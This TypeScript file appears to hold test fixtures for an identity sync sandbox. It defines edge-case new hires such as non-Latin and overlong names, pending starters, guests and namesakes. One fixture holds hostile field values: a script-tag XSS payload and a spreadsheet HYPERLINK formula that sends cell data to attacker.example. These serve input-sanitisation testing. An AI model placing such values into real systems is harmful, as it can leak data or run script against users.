/** People who should get a member, or just not yet. */
import type { SandboxWorld, WorldPerson } from '../../world.ts';
import type { MspGroups } from '../company.ts';
import { DOMAIN, hire } from '../company.ts';

/** Nothing special: the plain new technician. */
export function addPlainStarter(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: 'Jasmine',
    lastName: 'Ortega',
    title: 'Service Desk Engineer',
    hiredOn: '2026-11-16',
    groups: [groups.technicians],
  });
}

/** Chinese name; only login and mail are Latin. */
export function addStarterWithChineseName(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: '小明',
    lastName: '王',
    displayName: '王小明',
    login: `wxiaoming@${DOMAIN}`,
    mail: `xiaoming.wang@${DOMAIN}`,
    title: 'Field Engineer',
    hiredOn: '2026-11-23',
    groups: [groups.fieldEngineers],
  });
}

/** A last name of over 40 characters: the PSA takes 30, and 15 for the Member ID. */
export function addStarterWithLongName(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: 'Maximiliana',
    lastName: 'Featherstonehaugh-Cholmondeley-Ravenscroft',
    login: `mfeatherstonehaugh@${DOMAIN}`,
    title: 'Account Manager',
    hiredOn: '2026-11-23',
    groups: [groups.sales],
  });
}

/** Markup, quotes and a spreadsheet formula where names and titles should be. */
export function addStarterWithHostileTexts(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: '<b>Bobby</b>',
    lastName: "O'Tables",
    displayName: `Bobby "<script>alert(1)</script>" O'Tables`,
    login: `botables@${DOMAIN}`,
    mail: `bobby.otables@${DOMAIN}`,
    title: '=HYPERLINK("http://attacker.example/?x="&A1,"Engineer")',
    hiredOn: '2026-11-23',
    groups: [groups.technicians],
  });
}

/** Starts next month. Okta says so (STAGED); Entra has no word for it and shows an enabled user. */
export function addPendingStarter(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: 'Theo',
    lastName: 'Almeida',
    title: 'Dispatcher',
    state: 'pending',
    hiredOn: '2026-12-14',
    groups: [groups.dispatch],
  });
}

/** A partner's engineer, invited into a mapped group. Okta has no word for guests and shows an ordinary user. */
export function addGuestInGroup(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: 'Nina',
    lastName: 'Vogel',
    displayName: 'Nina Vogel (Alder Partners)',
    login: `nina.vogel_alderpartners.example#EXT#@${DOMAIN}`,
    mail: 'nina.vogel@alderpartners.example',
    employeeNumber: null,
    hiredOn: null,
    guest: true,
    groups: [groups.technicians],
  });
}

/** Has the very name of an active member with whom nothing else connects them: the same human, or a namesake? */
export function addStarterWithNamesake(world: SandboxWorld, groups: MspGroups): WorldPerson {
  return hire(world, {
    firstName: 'Daniel',
    lastName: 'Kim',
    title: 'Cloud Engineer',
    hiredOn: '2026-11-09',
    groups: [groups.technicians],
  });
}
